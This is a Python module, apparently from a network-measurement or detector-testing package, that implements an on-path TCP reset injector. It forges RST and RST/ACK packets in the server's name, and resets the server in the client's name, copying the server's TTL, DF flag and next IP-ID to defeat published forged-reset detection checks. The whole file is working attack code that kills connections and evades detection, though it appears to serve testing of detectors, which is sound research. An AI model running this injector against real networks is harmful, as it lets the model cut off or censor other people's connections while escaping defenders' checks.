"""On-path injector that dresses its reset as the server's: copied TTL, DF and next IP-ID.

Imitates an injector built to defeat the TTL and IP-ID checks that Weaver, Sommer and Paxson
(NDSS 2009) use to spot forged resets, by mimicking the server's packets. It watches the server's
packets of each flow as they pass this router and forges a single well-formed RST (seq = the
client's ack, window 0, as a Linux server would send) plus one RST/ACK, with:
- TTL = the TTL the server's packets leave this router with (seen TTL - 1 in PREROUTING, where
  the router has not decremented it yet; as seen in FORWARD), so both arrive alike;
- DF as in the server's packets; IP-ID = the last server IP-ID seen + 1 (then + 2).
Like the tap, it lets the request pass and also resets the server in the client's name.
Timing still gives it away: its reset arrives well under one round trip after the request.
"""

from . import _common, _packets


def main() -> None:
    args = _common.parser("ttlcopy", __doc__, queue=15, where="prerouting").parse_args()
    sender = _common.RawSender()
    server_look = _common.FlowMemory()  # flow (client side first) -> (ttl leaving here, df, ip_id)
    decrement = 1 if args.where == "prerouting" else 0

    def on_packet(packet) -> None:
        seg = _packets.parse(packet.get_payload())
        if seg is None:
            packet.accept()
        elif seg.sport == args.port:  # server -> client: remember how the server's packets look
            server_look.put(seg.reverse_flow, (max(seg.ttl - decrement, 1), seg.df, seg.ip_id))
            packet.accept()
        elif _common.is_trigger(seg.payload, args.trigger):
            ttl, df, ip_id = server_look.get(seg.flow, (_common.BOX_TTL, False, None))
            server, client = seg.dst, seg.src
            reset = _packets.forged(server, client, seg.dport, seg.sport, seq=seg.ack, flags="R",
                                    ttl=ttl, df=df, ip_id=None if ip_id is None else ip_id + 1)
            reset_ack = _packets.forged(server, client, seg.dport, seg.sport, seq=seg.ack,
                                        ack=seg.end_seq, flags="RA", ttl=ttl, df=df,
                                        ip_id=None if ip_id is None else ip_id + 2)
            toward_server = [bytes(p) for p in _packets.burst_toward_server(seg)[:2]]
            sender.send(reset)
            sender.send(reset_ack)
            packet.accept()
            for forged in toward_server:
                sender.send(forged)
        else:
            packet.accept()

    _common.main_queue("ttlcopy", args.queue, on_packet,
                       _common.server_and_trigger_rules(args.where, args.port, args.trigger, args.queue))


if __name__ == "__main__":
    main()
